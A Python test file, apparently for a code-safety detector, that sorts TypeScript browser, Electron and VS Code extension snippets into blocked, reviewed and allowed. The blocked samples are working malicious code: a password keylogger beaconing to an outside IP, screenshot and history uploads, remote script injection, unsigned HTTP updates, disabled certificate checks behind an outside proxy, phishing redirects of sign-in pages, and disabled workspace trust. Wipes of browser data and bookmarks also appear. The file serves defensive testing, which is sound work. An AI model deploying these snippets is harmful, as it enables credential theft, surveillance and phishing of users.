"""Twenty-first session, browser/Electron/VS Code extension code: a content script beaconing typed passwords out
of a buffer a timer empties, an auto-updater fed over plain HTTP or with its signature check replaced, the visible tab
screenshot and the browsing history uploaded with no click of the user's, VS Code's workspace trust turned off from an
extension, remote scripts injected into every page, certificate checks off behind a public proxy, sign-in pages
redirected to a look-alike; irreversible: the browser's data and the user's bookmarks erased. Each with the ordinary
extension code of the same shape that stays allowed."""
from __future__ import annotations

import pytest

from .helpers import assert_allowed, assert_blocked, assert_reviewed

TS = "typescript"

KEYLOG = ("const sink = 'https://203.0.113.90/k';\nlet buffer = '';\n\n"
          "document.addEventListener('input', (e) => {\n  const t = e.target as HTMLInputElement;\n"
          "  if (t && (t.type === 'password' || /user|email|login|card/i.test(t.name))) {\n"
          "    buffer += `${location.host}|${t.name}=${t.value}\\n`;\n  }\n}, true);\n\n"
          "setInterval(() => {\n  if (buffer) {\n    navigator.sendBeacon(sink, buffer);\n    buffer = '';\n  }\n}, 5000);")
KEYLOG_PUSH = ("const seen: string[] = [];\n"
               "document.addEventListener('change', (ev) => {\n  const el = ev.target as HTMLInputElement;\n"
               "  if (el.type === 'password') seen.push(el.value);\n});\n"
               "setInterval(async () => {\n  if (!seen.length) return;\n"
               "  await fetch('https://collect.telemetry-cdn.io/f', { method: 'POST', body: JSON.stringify(seen) });\n"
               "  seen.length = 0;\n}, 3000);")
UPDATER = ("import { autoUpdater } from 'electron-updater';\n\nautoUpdater.forceDevUpdateConfig = true;\n"
           "(autoUpdater as any).verifyUpdateCodeSignature = async () => null;\n"
           "autoUpdater.setFeedURL({ provider: 'generic', url: 'http://dl.pkg-mirror.dev/acme/' });\n"
           "autoUpdater.checkForUpdates();")
SNAP = ("chrome.alarms.create('snap', { periodInMinutes: 1 });\nchrome.alarms.onAlarm.addListener(async () => {\n"
        "  const [tab] = await chrome.tabs.query({ active: true, lastFocusedWindow: true });\n"
        "  if (!tab?.windowId) return;\n"
        "  const shot = await chrome.tabs.captureVisibleTab(tab.windowId, { format: 'jpeg', quality: 40 });\n"
        "  await fetch('https://img.telemetry-cdn.io/u', {\n    method: 'POST',\n"
        "    body: JSON.stringify({ url: tab.url, shot }),\n  });\n});")
HISTORY = ("chrome.runtime.onInstalled.addListener(async () => {\n"
           "  const items = await chrome.history.search({ text: '', startTime: 0, maxResults: 100000 });\n"
           "  const visits = items.map((i) => [i.url, i.lastVisitTime, i.visitCount]);\n"
           "  await fetch('https://203.0.113.19/h', { method: 'POST', body: JSON.stringify(visits) });\n});")
TRUST = ("import * as vscode from 'vscode';\n\nexport async function activate() {\n"
         "  const cfg = vscode.workspace.getConfiguration();\n"
         "  await cfg.update('security.workspace.trust.enabled', false, vscode.ConfigurationTarget.Global);\n"
         "  await cfg.update('task.allowAutomaticTasks', 'on', vscode.ConfigurationTarget.Global);\n}")
INJECT = ("chrome.tabs.onUpdated.addListener(async (tabId, info, tab) => {\n"
          "  if (info.status !== 'complete' || !tab.url?.startsWith('http')) return;\n"
          "  await chrome.scripting.executeScript({\n    target: { tabId, allFrames: true },\n    world: 'MAIN',\n"
          "    func: () => {\n      const s = document.createElement('script');\n"
          "      s.src = 'https://cdn-assets.telemetry-cdn.io/inject.js?' + Date.now();\n"
          "      document.documentElement.appendChild(s);\n    },\n  });\n});")
MITM = ("import { app, session } from 'electron';\n\napp.commandLine.appendSwitch('ignore-certificate-errors');\n"
        "app.whenReady().then(async () => {\n"
        "  session.defaultSession.setCertificateVerifyProc((_req, cb) => cb(0));\n"
        "  await session.defaultSession.setProxy({ proxyRules: 'https=203.0.113.66:8443;http=203.0.113.66:8080' });\n"
        "});")
PHISH = ("const targets = ['accounts.google.com', 'login.microsoftonline.com', 'github.com', 'www.paypal.com'];\n\n"
         "chrome.declarativeNetRequest.updateDynamicRules({\n  removeRuleIds: targets.map((_, i) => i + 100),\n"
         "  addRules: targets.map((host, i) => ({\n    id: i + 100,\n    priority: 1,\n    action: {\n"
         "      type: chrome.declarativeNetRequest.RuleActionType.REDIRECT,\n"
         "      redirect: { regexSubstitution: `https://signin.telemetry-cdn.io/${host}\\\\1` },\n    },\n"
         "    condition: { regexFilter: `^https://${host.replace(/\\./g, '\\\\.')}(/.*)$`, "
         "resourceTypes: [chrome.declarativeNetRequest.ResourceType.MAIN_FRAME] },\n  })),\n});")
WIPE = ("chrome.runtime.onInstalled.addListener(async () => {\n  await chrome.browsingData.remove(\n    { since: 0 },\n"
        "    { cookies: true, history: true, passwords: true, formData: true, localStorage: true },\n  );\n});")
BOOKMARKS = ("chrome.runtime.onInstalled.addListener(async () => {\n  const [root] = await chrome.bookmarks.getTree();\n"
             "  for (const folder of root.children ?? []) {\n    for (const child of folder.children ?? []) {\n"
             "      await chrome.bookmarks.removeTree(child.id);\n    }\n  }\n});")

BLOCKED = [
    (KEYLOG, "exfiltration"),
    (KEYLOG_PUSH, "exfiltration"),
    (UPDATER, "download-exec"),
    ("import { autoUpdater } from 'electron';\n"
     "autoUpdater.setFeedURL({ url: 'http://203.0.113.5/update/win32/' + app.getVersion() });\n"
     "autoUpdater.checkForUpdates();", "download-exec"),
    ("import { autoUpdater } from 'electron-updater';\n"
     "autoUpdater.setFeedURL({ provider: 'generic', url: 'https://updates.acme.app/desktop' });\n"
     "autoUpdater.verifyUpdateCodeSignature = () => Promise.resolve(null);\nautoUpdater.checkForUpdatesAndNotify();",
     "download-exec"),
    (SNAP, "exfiltration"),
    ("const { tabs } = chrome;\nsetInterval(async () => {\n  const png = await tabs.captureVisibleTab();\n"
     "  await fetch('https://203.0.113.41/p', { method: 'POST', body: png });\n}, 30000);", "exfiltration"),
    ("chrome.webNavigation.onCompleted.addListener(async ({ tabId, frameId }) => {\n  if (frameId !== 0) return;\n"
     "  const tab = await chrome.tabs.get(tabId);\n  const img = await chrome.tabs.captureVisibleTab(tab.windowId);\n"
     "  navigator.sendBeacon('https://198.51.100.40/s', img);\n});", "exfiltration"),
    (HISTORY, "exfiltration"),
    ("setInterval(async () => {\n  const recent = await browser.history.search({ text: '', maxResults: 500 });\n"
     "  await fetch(`https://sync.pkg-mirror.dev/v?d=${encodeURIComponent(JSON.stringify(recent))}`);\n}, 60000);",
     "exfiltration"),
    (TRUST, "persistence"),
    ("import * as vscode from 'vscode';\nexport function activate() {\n"
     "  vscode.workspace.getConfiguration('security.workspace.trust').update('enabled', false, true);\n}",
     "persistence"),
    ("import * as fs from 'fs';\nimport * as os from 'os';\n"
     "const f = os.homedir() + '/.config/Code/User/settings.json';\n"
     "const s = JSON.parse(fs.readFileSync(f, 'utf8'));\n"
     "fs.writeFileSync(f, JSON.stringify({ ...s, 'extensions.verifySignature': false }, null, 2));", "persistence"),
    (INJECT, "download-exec"),
    ("chrome.tabs.onUpdated.addListener((tabId, info) => {\n  if (info.status !== 'complete') return;\n"
     "  chrome.tabs.executeScript(tabId, { code: \"var s=document.createElement('script');"
     "s.src='https://cdn.pkg-mirror.dev/a.js';document.head.appendChild(s);\" });\n});", "download-exec"),
    ("chrome.tabs.onUpdated.addListener((tabId) => {\n  chrome.scripting.executeScript({\n"
     "    target: { tabId }, world: 'MAIN',\n"
     "    func: (u: string) => { const s = document.createElement('script'); s.src = u; document.head.append(s); },\n"
     "    args: ['https://203.0.113.77/p.js'],\n  });\n});", "download-exec"),
    (MITM, "exfiltration"),
    ("import { app } from 'electron';\napp.commandLine.appendSwitch('proxy-server', 'http://198.51.100.7:3128');\n"
     "app.on('certificate-error', (event, webContents, url, error, cert, callback) => {\n"
     "  event.preventDefault();\n  callback(true);\n});", "exfiltration"),
    (PHISH, "exfiltration"),
    ("chrome.declarativeNetRequest.updateDynamicRules({ addRules: [{\n  id: 7, priority: 1,\n"
     "  action: { type: 'redirect', redirect: { url: 'https://accounts-google.login-verify.io/signin' } },\n"
     "  condition: { urlFilter: '||accounts.google.com/signin', resourceTypes: ['main_frame'] },\n}] });",
     "exfiltration"),
    ("const RULES: chrome.declarativeNetRequest.Rule[] = [{\n  id: 1, priority: 2,\n"
     "  action: { type: chrome.declarativeNetRequest.RuleActionType.REDIRECT,\n"
     "            redirect: { transform: { host: 'login-microsoftonline.com-sso.io' } } },\n"
     "  condition: { requestDomains: ['login.microsoftonline.com'], resourceTypes: ['main_frame'] },\n}];\n"
     "chrome.runtime.onInstalled.addListener(() => chrome.declarativeNetRequest.updateDynamicRules({ addRules: RULES }));",
     "exfiltration"),
    ("chrome.webRequest.onBeforeRequest.addListener(\n"
     "  (d) => ({ redirectUrl: 'https://paypa1-secure.io/' + encodeURIComponent(d.url) }),\n"
     "  { urls: ['https://www.paypal.com/signin*'] },\n  ['blocking'],\n);", "exfiltration"),
]

REVIEWED = [
    WIPE,
    "chrome.runtime.onStartup.addListener(() => chrome.browsingData.removePasswords({}));",
    "browser.browsingData.remove({}, { history: true, downloads: true });",
    "chrome.runtime.onInstalled.addListener(() => chrome.history.deleteAll());",
    "chrome.history.deleteRange({ startTime: 0, endTime: Date.now() });",
    BOOKMARKS,
    "const all = await chrome.bookmarks.search({});\nall.forEach((b) => chrome.bookmarks.remove(b.id));",
]

ALLOWED = [
    # a password field's strength shown on the page; nothing sent
    "document.addEventListener('input', (e) => {\n  const t = e.target as HTMLInputElement;\n"
    "  if (t.type === 'password') meter.textContent = String(score(t.value));\n});",
    # page views batched and sent by a timer: no field values
    "let queue = '';\ndocument.addEventListener('click', (e) => {\n  queue += `${location.pathname}|${(e.target as Element).tagName}\\n`;\n"
    "});\nsetInterval(() => { if (queue) { navigator.sendBeacon('https://stats.acme.app/c', queue); queue = ''; } }, 5000);",
    "import { autoUpdater } from 'electron-updater';\n"
    "autoUpdater.setFeedURL({ provider: 'generic', url: 'https://updates.acme.app/desktop' });\n"
    "autoUpdater.autoDownload = false;\nautoUpdater.checkForUpdatesAndNotify();",
    "import { autoUpdater } from 'electron-updater';\n"
    "autoUpdater.forceDevUpdateConfig = true;\nautoUpdater.setFeedURL({ provider: 'generic', url: 'http://localhost:8080/' });\n"
    "autoUpdater.checkForUpdates();",
    "import { autoUpdater } from 'electron-updater';\n"
    "autoUpdater.verifyUpdateCodeSignature = async (publishers, file) => (await checkWithOurTool(publishers, file)) ? null : 'bad';",
    # the user clicks the extension's button: a screenshot sent to its own service
    "chrome.action.onClicked.addListener(async (tab) => {\n"
    "  const shot = await chrome.tabs.captureVisibleTab(tab.windowId, { format: 'png' });\n"
    "  await fetch('https://api.acme-notes.com/shots', { method: 'POST', body: JSON.stringify({ shot, url: tab.url }) });\n});",
    "async function capture() {\n  const img = await chrome.tabs.captureVisibleTab();\n"
    "  await fetch('https://api.bugsnapper.io/reports', { method: 'POST', body: img });\n}\n"
    "document.getElementById('report')!.addEventListener('click', capture);",
    "chrome.runtime.onMessage.addListener((msg, _s, reply) => {\n"
    "  if (msg.type === 'search') chrome.history.search({ text: msg.q, maxResults: 20 }).then(reply);\n  return true;\n});",
    "const items = await chrome.history.search({ text: '', maxResults: 50 });\nrender(items);",
    "import * as vscode from 'vscode';\nexport function activate() {\n  const cfg = vscode.workspace.getConfiguration();\n"
    "  cfg.update('editor.formatOnSave', true, vscode.ConfigurationTarget.Global);\n"
    "  cfg.update('security.workspace.trust.enabled', true, vscode.ConfigurationTarget.Global);\n"
    "  cfg.update('task.allowAutomaticTasks', 'off');\n"
    "  vscode.workspace.getConfiguration('acme').update('serverUrl', 'https://api.acme.dev', true);\n}",
    "chrome.scripting.executeScript({ target: { tabId }, files: ['content.js'] });",
    "chrome.scripting.executeScript({ target: { tabId }, world: 'MAIN', func: () => {\n"
    "  const s = document.createElement('script');\n  s.src = chrome.runtime.getURL('inject.js');\n"
    "  document.head.appendChild(s);\n} });",
    "const [{ result }] = await chrome.scripting.executeScript({ target: { tabId }, func: () => document.title });",
    "import { app } from 'electron';\nif (!app.isPackaged) app.commandLine.appendSwitch('ignore-certificate-errors');",
    "import { app, session } from 'electron';\napp.commandLine.appendSwitch('ignore-certificate-errors');\n"
    "app.whenReady().then(() => session.defaultSession.setProxy({ proxyRules: 'http=127.0.0.1:8888;https=127.0.0.1:8888' }));",
    "import { session } from 'electron';\n"
    "session.defaultSession.setProxy({ proxyRules: 'proxy.corp.internal:3128' });\n"
    "session.defaultSession.setCertificateVerifyProc((req, cb) => cb(req.hostname.endsWith('.corp.internal') ? 0 : -3));",
    "import { session } from 'electron';\nawait session.defaultSession.setProxy({ proxyRules: 'socks5://198.51.100.9:1080' });",
    "chrome.declarativeNetRequest.updateDynamicRules({ addRules: [\n"
    "  { id: 1, priority: 1, action: { type: 'block' }, condition: { urlFilter: '||doubleclick.net', resourceTypes: ['script'] } },\n"
    "  { id: 2, priority: 1, action: { type: 'upgradeScheme' }, condition: { urlFilter: '|http://accounts.google.com', resourceTypes: ['main_frame'] } },\n"
    "  { id: 3, priority: 1, action: { type: 'redirect', redirect: { extensionPath: '/blocked.html' } }, condition: { urlFilter: '||github.com/login', resourceTypes: ['main_frame'] } },\n"
    "] });",
    "chrome.declarativeNetRequest.updateDynamicRules({ addRules: [{ id: 9, priority: 1,\n"
    "  action: { type: 'redirect', redirect: { transform: { host: 'yewtu.be' } } },\n"
    "  condition: { requestDomains: ['youtube.com'], resourceTypes: ['main_frame'] } }] });",
    # a privacy extension sending video and social sites to other front-ends, next to a tracker block
    "chrome.declarativeNetRequest.updateDynamicRules({ addRules: [\n"
    "  { id: 1, priority: 1, action: { type: 'block' }, condition: { urlFilter: '||connect.facebook.net', resourceTypes: ['script'] } },\n"
    "  { id: 2, priority: 1, action: { type: 'redirect', redirect: { regexSubstitution: 'https://nitter.net\\\\1' } },\n"
    "    condition: { regexFilter: '^https://(?:www\\\\.)?twitter\\\\.com(/.*)', resourceTypes: ['main_frame'] } },\n"
    "] });",
    # a company's old sign-in host sent to its new one
    "chrome.declarativeNetRequest.updateDynamicRules({ addRules: [{ id: 4, priority: 1,\n"
    "  action: { type: 'redirect', redirect: { url: 'https://sso.acme.com/' } },\n"
    "  condition: { urlFilter: '||login.acme.com', resourceTypes: ['main_frame'] } }] });",
    "await chrome.browsingData.removeCache({ since: Date.now() - 3600_000 });",
    "await chrome.browsingData.remove({ since: Date.now() - 60 * 60 * 1000 }, { cookies: true, history: true });",
    "await chrome.browsingData.remove({ origins: ['https://app.acme.test'] }, { cookies: true, localStorage: true });",
    "await chrome.browsingData.remove({ since: 0 }, { cache: true, serviceWorkers: true });",
    "const folder = await chrome.bookmarks.create({ title: 'Acme' });\nconst hits = await chrome.bookmarks.search('acme');\n"
    "await chrome.bookmarks.removeTree(folder.id);",
    "const found = await chrome.bookmarks.search({ url: tab.url });\n"
    "chrome.runtime.onMessage.addListener((m) => { if (m.type === 'unstar') chrome.bookmarks.remove(m.id); });",
    "chrome.history.deleteUrl({ url: 'https://acme.app/welcome' });",
]


@pytest.mark.parametrize("src,rule", BLOCKED)
def test_blocked(src, rule):
    assert_blocked(src, rule, TS)


@pytest.mark.parametrize("src", REVIEWED)
def test_reviewed(src):
    assert_reviewed(src, "irreversible", TS)


@pytest.mark.parametrize("src", ALLOWED)
def test_allowed(src):
    assert_allowed(src, TS)
